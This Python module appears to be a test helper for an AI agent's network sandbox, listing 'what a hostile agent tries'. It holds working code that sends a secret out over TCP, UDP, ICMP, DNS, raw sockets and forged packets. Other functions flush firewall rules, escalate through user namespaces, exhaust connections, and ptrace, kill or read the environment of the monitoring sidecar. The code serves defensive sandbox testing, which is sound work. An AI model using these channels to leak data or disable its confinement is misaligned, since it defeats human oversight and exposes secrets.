"""What a hostile agent tries. Each function is one way to send something out; an OSError is the kernel saying no."""
import ctypes
import os
import resource
import socket
import ssl
import struct
import threading
import time

SECRET = b"the agent's secret"
QUIET_S = 2  # where nobody may ever answer
SHORT_S = 0.1  # where it does not matter whether somebody does
PATIENCE_S = 30  # where somebody must
IPPROTO_MPTCP = 262
IPPROTO_UDPLITE = 136
SO_MARK = 36
libc = ctypes.CDLL(None, use_errno=True)


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def checked(result):
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


# TCP


def tcp(address, port, protocol=0, from_port=0):
    """Connects and says the secret. Gives what was answered first."""
    with socket.socket(family_of(address), socket.SOCK_STREAM, protocol) as s:
        s.settimeout(QUIET_S)
        if from_port:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("", from_port))
        s.connect((address, port))
        s.sendall(SECRET + b"\r\n\r\n")
        return {"from_port": s.getsockname()[1]}


def leave_unsent(address, port):
    """Says more than the other side takes, and closes: the rest is the kernel's to send, for nobody."""
    with socket.create_connection((address, port), QUIET_S) as s:
        s.setblocking(False)
        try:
            while True:
                s.send(SECRET * 1000)
        except BlockingIOError:
            pass


def tcp_answer(address, port, data):
    """Connects, says `data` and reads to the end."""
    with socket.create_connection((address, port), PATIENCE_S) as s:
        s.sendall(data.encode("latin-1"))
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
        return answer.decode("latin-1")


def tcp_fast_open(address, port):
    with socket.socket(family_of(address), socket.SOCK_STREAM) as s:
        s.settimeout(QUIET_S)
        s.sendto(SECRET, socket.MSG_FASTOPEN, (address, port))


def page(host, port=80):
    """What an honest client gets for http://host/."""
    return tcp_answer(host, port, f"GET / HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n")


def say(host, port, pieces):
    """Connects and says the pieces, each in a segment; reads until the other side has had enough or is quiet."""
    with socket.create_connection((host, port), PATIENCE_S) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(QUIET_S)
        for piece in pieces:
            s.sendall(bytes.fromhex(piece))
        while s.recv(65536):
            pass


def wait_for_banners(host, ports):
    """Connects to all of them, says nothing, and gives what each says before it closes."""
    clients = [socket.create_connection((host, port), PATIENCE_S) for port in ports]
    banners = []
    for s in clients:
        with s:
            try:
                banners.append(s.recv(4096).decode("latin-1"))
            except ConnectionResetError:
                banners.append("")
    return banners


def websocket(host):
    """The handshake of a WebSocket; gives what it is answered with."""
    fields = "connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    return tcp_answer(host, 80, f"GET / HTTP/1.1\r\nhost: {host}\r\n{fields}\r\n")


def postgres(host):
    """Opens a session and asks for something; gives what it is answered with."""
    parameters = b"user\0agent\0database\0shop\0\0"
    startup = struct.pack("!II", 8 + len(parameters), 3 << 16) + parameters
    query = b"select 1\0"
    with socket.create_connection((host, 5432), PATIENCE_S) as s:
        s.sendall(startup + b"Q" + struct.pack("!I", 4 + len(query)) + query)
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
        return answer.decode("latin-1")


# Datagrams


def udp(address, port, protocol=0, from_port=0, device=None):
    with socket.socket(family_of(address), socket.SOCK_DGRAM, protocol) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if device:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        if from_port:
            s.bind(("", from_port))
        s.sendto(SECRET, (address, port))


def many_datagrams(address, port, count):
    """From as many sockets. Gives how many the kernel refused."""
    refused = 0
    for _ in range(count):
        with socket.socket(family_of(address), socket.SOCK_DGRAM) as s:
            try:
                s.sendto(SECRET, (address, port))
            except PermissionError:
                refused += 1
    return refused


def keep_sending(address, port, protocol=0):
    """Connects a socket, sends, and keeps it until the next call."""
    kept["socket"] = s = socket.socket(family_of(address), socket.SOCK_DGRAM, protocol)
    s.connect((address, port))
    try:
        s.send(SECRET if protocol in (0, IPPROTO_UDPLITE) else b"\x08\0\0\0\0\x01\0\x01" + SECRET)
    except PermissionError:
        pass


def keep_raw(protocol):
    kept["raw"] = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)


kept = {}


def echo(address):
    """An echo request carries as many bytes as one likes, and a socket for it needs no capability (icmp(7))."""
    if family_of(address) == socket.AF_INET:
        protocol, header = socket.IPPROTO_ICMP, b"\x08\0\0\0\0\x01\0\x01"
    else:
        protocol, header = socket.IPPROTO_ICMPV6, b"\x80\0\0\0\0\x01\0\x01"
    with socket.socket(family_of(address), socket.SOCK_DGRAM, protocol) as s:
        s.sendto(header + SECRET, (address, 0))


def every_protocol(address):
    """Every kind of socket of the family that the kernel gives. Gives how many there were."""
    opened = 0
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_RDM, socket.SOCK_SEQPACKET, 6, 10):
        for protocol in range(263):
            try:
                s = socket.socket(family_of(address), kind, protocol)
            except OSError:
                continue
            opened += 1
            with s:
                s.setblocking(False)
                for attempt in (lambda: s.connect((address, 4433)), lambda: s.send(SECRET), lambda: s.sendto(SECRET, (address, 4433))):
                    try:
                        attempt()
                    except (OSError, OverflowError):
                        pass
    return opened


# Groups: joining makes the kernel report, in a packet that carries the address of the group


def join(group, device="eth0"):
    index = socket.if_nametoindex(device)
    family = family_of(group)
    packed = socket.inet_pton(family, group)
    s = socket.socket(family, socket.SOCK_DGRAM)
    if family == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, packed + struct.pack("i", index))
    else:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, packed + b"\0" * 4 + struct.pack("i", index))
    time.sleep(0.05)  # the report comes from a timer of the kernel, which the sandbox has set to a millisecond
    s.close()
    time.sleep(0.05)


# With privileges that an agent should not have


def raw(address, protocol):
    with socket.socket(family_of(address), socket.SOCK_RAW, protocol) as s:
        s.sendto(SECRET, (address, 0))


def invalid_segment(address, from_port):
    """TCP with flags that conntrack takes for nothing, so that it is not redirected either."""
    segment = struct.pack("!HHIIBBHHH", from_port, 443, 1, 1, 5 << 4, 0x03, 1024, 0, 0) + SECRET
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as s:
        s.sendto(segment, (address, 0))


def forged_neighbour_solicitation(target):
    """Neighbour discovery with a payload behind it."""
    body = b"\x87\0\0\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, target) + SECRET
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        s.sendto(body, ("ff02::1", 0, 0, socket.if_nametoindex("eth0")))


def frame(device="eth0"):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0))
        s.send(b"\xff" * 12 + b"\x88\xb6" + SECRET)


def marked_udp(address, mark):
    with socket.socket(family_of(address), socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, SO_MARK, mark)
        s.sendto(SECRET, (address, 4433))


def as_uid(uid, call, args):
    """In a child that has tried to become `uid`."""
    return in_child(lambda: os.setresuid(uid, uid, uid), call, args)


def as_gid(gid, call, args):
    return in_child(lambda: os.setresgid(gid, gid, gid), call, args)


CLONE_NEWUSER = 0x10000000
CLONE_NEWNET = 0x40000000


def in_user_namespace(inside_uid, call, args, network=False):
    """In a child that is `inside_uid`, with every capability, of a user namespace of its own."""
    outside_uid = os.getuid()

    def enter():
        checked(libc.unshare(CLONE_NEWUSER | (CLONE_NEWNET if network else 0)))
        with open("/proc/self/setgroups", "w") as f:
            f.write("deny")
        with open("/proc/self/uid_map", "w") as f:
            f.write(f"{inside_uid} {outside_uid} 1")

    return in_child(enter, call, args)


def in_child(prepare, call, args):
    import errno as names
    import json

    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            prepare()
            answer = {"value": globals()[call](**args)}
        except OSError as error:
            answer = {"errno": error.errno}
        except BaseException as error:
            answer = {"error": repr(error)}
        os.write(write, json.dumps(answer).encode())
        os._exit(0)
    os.close(write)
    with os.fdopen(read) as pipe:
        answer = json.loads(pipe.read())
    os.waitpid(child, 0)
    if "errno" in answer:
        raise OSError(answer["errno"], names.errorcode.get(answer["errno"]))
    if "error" in answer:
        raise RuntimeError(answer["error"])
    return answer["value"]


def program(*command):
    """Raises PermissionError when the program says that something is not permitted."""
    import subprocess

    result = subprocess.run(command, capture_output=True, text=True)
    if result.returncode != 0:
        raise PermissionError(1, result.stderr)
    return result.stdout


def flush_rules():
    return program("/usr/sbin/nft", "flush", "ruleset")


# Inbound: data leaves by a peer that connects in

listeners = {}
received = []


def serve(address, port, protocol=0):
    """Listens, and tells whoever connects the secret. What is still to be sent when it closes, the kernel sends for nobody."""
    s = socket.socket(family_of(address), socket.SOCK_STREAM, protocol)
    if family_of(address) == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((address, port))
    s.listen(16)
    listeners[port] = s
    in_background(tell_secret, s)


def tell_secret(listener):
    while True:
        connection, _ = listener.accept()
        with connection:
            connection.sendall(SECRET)


def serve_udp(address, port):
    s = socket.socket(family_of(address), socket.SOCK_DGRAM)
    s.bind((address, port))
    listeners[port] = s
    in_background(take_datagrams, s)


def take_datagrams(listener):
    while True:
        data, peer = listener.recvfrom(2048)
        if peer is None:
            return
        received.append(data.decode("latin-1"))
        listener.sendto(SECRET, peer)


def stop_serving(port):
    s = listeners.pop(port)
    try:
        s.shutdown(socket.SHUT_RDWR)  # wakes the thread that accepts
    except OSError:
        pass
    s.close()


def datagrams():
    seen = list(received)
    received.clear()
    return seen


def in_background(function, *args):
    def run():
        try:
            function(*args)
        except OSError:
            pass

    threading.Thread(target=run, daemon=True).start()


# Names

TYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "SVCB": 64, "HTTPS": 65, "ANY": 255}


def query_for(name, kind="A"):
    labels = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split("."))
    return b"\x43\x48\x01\0\0\x01\0\0\0\0\0\0" + labels + struct.pack("!BHH", 0, TYPES[kind], 1)


def ask(name, kind="A", server="10.77.0.1", transport="udp", from_port=0):
    """Gives the response code and the number of answers."""
    query = query_for(name, kind)
    with socket.socket(family_of(server), socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE_S)
        s.bind(("", from_port))
        s.connect((server, 53))
        s.send(query if transport == "udp" else struct.pack("!H", len(query)) + query)
        answer = s.recv(4096)[0 if transport == "udp" else 2 :]
    return {"code": answer[3] & 15, "answers": struct.unpack("!H", answer[6:8])[0]}


def send_dns(packet, transport):
    """Sends any bytes to the name server, and waits for an answer as long as there may be one."""
    data = bytes.fromhex(packet)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM) as s:
        s.settimeout(SHORT_S)
        s.connect(("10.77.0.1", 53))
        s.send(data if transport == "udp" else struct.pack("!H", len(data)) + data)
        s.recv(4096)


def flood(name):
    """Asks, a hundred questions at a time, until some are not answered."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(QUIET_S)
        s.connect(("10.77.0.1", 53))
        while True:
            for _ in range(100):
                s.send(query_for(name))
            try:
                for _ in range(100):
                    s.recv(4096)
            except TimeoutError:
                return


def ask_many(count, below):
    for number in range(count):
        ask(f"{os.urandom(20).hex()}.{number}.{below}")


def page_over_tls(address, port, host, path):
    """An HTTPS request that believes any certificate; gives the status line."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with context.wrap_socket(socket.create_connection((address, port), PATIENCE_S), server_hostname=host) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n".encode())
        return s.recv(4096).split(b"\r\n", 1)[0].decode()


# Many connections

held = []


def hold(count, address="192.0.2.1"):
    """Opens connections and says nothing. Gives how many were met."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    for _ in range(count):
        held.append(socket.create_connection((address, 443), PATIENCE_S))
    return len(held)


def resets():
    """How many of those that are held were reset."""
    count = 0
    for s in held:
        s.setblocking(False)
        try:
            s.recv(1)
        except BlockingIOError:
            continue
        except OSError:
            pass
        count += 1
    return count


def release():
    while held:
        held.pop().close()


# The sidecar as a process


def memory_of(pid):
    with open(f"/proc/{pid}/mem", "rb") as f:
        return f.read(1)


def environment_of(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        return f.read().decode("latin-1")


def descriptors_of(pid):
    return os.listdir(f"/proc/{pid}/fd")


def trace(pid):
    checked(libc.ptrace(16, pid, 0, 0))  # PTRACE_ATTACH


def stop(pid):
    os.kill(pid, 9)


def read_file(path):
    with open(path, "rb") as f:
        return f.read(1).decode("latin-1")


def connect_unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(path)


def abstract_sockets():
    """Of every process of the network namespace."""
    with open("/proc/net/unix") as f:
        return [line.split()[-1] for line in f if line.split()[-1].startswith("@")]
